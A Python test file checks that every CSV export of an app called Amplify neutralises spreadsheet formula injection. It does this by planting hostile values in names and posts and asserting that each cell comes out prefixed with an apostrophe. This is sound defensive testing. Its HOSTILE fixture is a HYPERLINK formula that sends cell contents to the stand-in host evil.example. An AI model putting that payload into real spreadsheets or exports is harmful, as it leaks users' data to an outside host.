"""Every CSV Amplify writes, opened as a spreadsheet would: no cell runs as a formula."""

import csv
import io
from datetime import date, datetime, timedelta, timezone

from amplify import spreadsheets
from amplify.campaigns.models import Campaign
from amplify.consent import ledger
from amplify.actors.models import Actor, MapShare, Position, Relationship
from amplify.actors.tokens import token_for
from amplify.invitations.models import Event, Invitation
from amplify.items.models import Item
from amplify.people.models import Activist, Organization
from amplify.press.models import Journalist
from tests.test_reports import make_share, world  # noqa: F401 (a fixture)

HOSTILE = '=HYPERLINK("http://evil.example/?"&A1,"ok")'
TABLES = ("publications", "published", "consent", "takedowns", "invitations_state", "invitations_level",
          "invitations_role", "first_time", "fairness", "fairness_groups", "coverage", "frameworks")


def cells(response, separator, url):
    body = response.get_data(as_text=True)
    assert response.status_code == 200 and response.mimetype == "text/csv", url
    assert body.startswith(spreadsheets.BOM)
    return [cell for row in csv.reader(io.StringIO(body[1:]), delimiter=separator) for cell in row]


def test_neutralise_puts_an_apostrophe_before_every_formula_start():
    for start in ("=", "+", "-", "@", "\t", "\r", "\n"):
        assert spreadsheets.neutralise(f"{start}1+1") == f"'{start}1+1"
    assert spreadsheets.neutralise("Ana") == "Ana" and spreadsheets.neutralise(-3) == -3
    text = spreadsheets.write([("-2", 0.25, None)], ["a", "b", "c"], spreadsheets.SEMICOLON)
    assert text == "\ufeffa;b;c\r\n'-2;0,25;\r\n"


def test_no_csv_endpoint_writes_a_cell_that_runs_as_a_formula(app, world, factories, login):  # noqa: F811
    """Names people typed (a person, an organization, an event, a post) start like formulas;
    every CSV route of the app is fetched, and none of its cells would run."""
    campaign = world["campaign"]
    Activist.update(display_name=HOSTILE).where(Activist.id == world["people"]["ana"].id).execute()
    Organization.update(name="+Sindicato").where(Organization.id == world["sindicato"].id).execute()
    Event.update(title="@Audiencia").where(Event.title == "Audiencia").execute()
    maria = factories.activist("María Quispe")
    planned = datetime.now(timezone.utc).replace(second=0, microsecond=0, minute=0) + timedelta(days=2)
    for title, text in (("Fórmula", "-5% de salario: " + HOSTILE), ("Normal", "Texto normal")):
        item = factories.send(factories.item(campaign, people=[(maria, "quoted", None)], title=title, text=text))
        Item.update(planned_at=planned).where(Item.id == item.id).execute()
        item = Item.get_by_id(item.id)
        with app.app_context():
            ledger.record_decision(maria, "item", item, item.content_hash, "given", method="review_page",
                                   scope={"channels": ["x"], "attribution": "full_name"})
    session = login("comms")
    share = make_share(session, world)
    period = "since=2026-09-01&until=2026-10-31&lang=en"
    urls = {
        "reports.campaign_csv": [f"/reports/campaigns/{campaign.slug}/{t}.csv?{period}" for t in TABLES],
        "reports.organization_csv": [f"/reports/organizations/{world['sindicato'].id}/{t}.csv?{period}"
                                     for t in TABLES],
        "shared.csv": [f"{share}/{t}.csv" for t in TABLES],
        "drafting.scheduler_csv": [f"/drafting/{campaign.slug}/exports/{s}-x.csv" for s in ("hootsuite", "sprout")],
        "drafting.generic": [f"/drafting/{campaign.slug}/exports/publications.csv"],
    }
    hearing = Event.get(Event.title == "@Audiencia")
    Event.update(per_diem_cents=5000, per_diem_currency="USD").where(Event.id == hearing.id).execute()
    Invitation.update(passport_name=HOSTILE).where(Invitation.event == hearing.id).execute()
    minister = Actor.create(campaign=campaign, kind="person", name=HOSTILE, role="-Ministra",
                            position="active_opposition", influence="high", position_on=date(2026, 10, 1))
    ministry = Actor.create(campaign=campaign, kind="institution", name="@Ministerio")
    Position.create(actor=minister, position="active_opposition", influence="high", observed_on=date(2026, 10, 1),
                    source="=1+1")
    Relationship.create(campaign=campaign, from_actor=minister, to_actor=ministry, kind="works_for", source="+x")
    with app.app_context():
        map_token = token_for(MapShare.create(nonce="csv-map", campaign=campaign, language="es",
                                              expires_at=datetime.now(timezone.utc) + timedelta(days=1)))
    Journalist.create(name=HOSTILE, email="p@diario.example", email_key="p@diario.example", beat="-economía")
    event_csv = f"/invitations/events/{hearing.id}"
    urls.update({
        "invitations.delegation_list_csv": [f"{event_csv}/delegation-list.csv",
                                            f"{event_csv}/delegation-list.csv?version=passports"],
        "invitations.per_diem_csv": [f"{event_csv}/per-diem.csv"],
        "actors.spectrum_file": [f"/actors/campaigns/{campaign.slug}/spectrum.csv"],
        "actors.moved_file": [f"/actors/campaigns/{campaign.slug}/moved.csv?since=2026-01-01&until=2026-11-01"],
        "actors.neighbourhood_file": [f"/actors/{minister.id}/neighbourhood.csv"],
        "actors.shared_spectrum": [f"/actors/shared/{map_token}/spectrum.csv"],
        "press.export_list": ["/press/journalists/export.csv"],
    })
    csv_routes = {rule.endpoint for rule in app.url_map.iter_rules() if rule.rule.endswith(".csv")}
    assert csv_routes == set(urls), "a CSV route is not covered by this test"
    fetches = [(url, ",") for group in urls.values() for url in group]
    fetches += [(url + ("&" if "?" in url else "?") + "separator=semicolon", ";")
                for endpoint in ("reports.campaign_csv", "reports.organization_csv", "shared.csv")
                for url in urls[endpoint]]
    seen = []
    for url, separator in fetches:
        found = cells(session.get(url), separator, url)
        assert not [c for c in found if spreadsheets.starts_like_formula(c)], url
        seen += found
    assert "'" + HOSTILE in seen and "'+Sindicato" in seen and "'@Audiencia" in seen
    assert "'@Ministerio" in seen and "'-economía" in seen
    assert "'-5% de salario: " + HOSTILE in seen  # the spreadsheet file keeps it, disarmed
    scheduler = session.get(f"/drafting/{campaign.slug}/exports/hootsuite-x.csv").get_data(as_text=True)
    assert "HYPERLINK" not in scheduler and "Texto normal" in scheduler  # never altered: left out
    assert Campaign.select().count() == 2

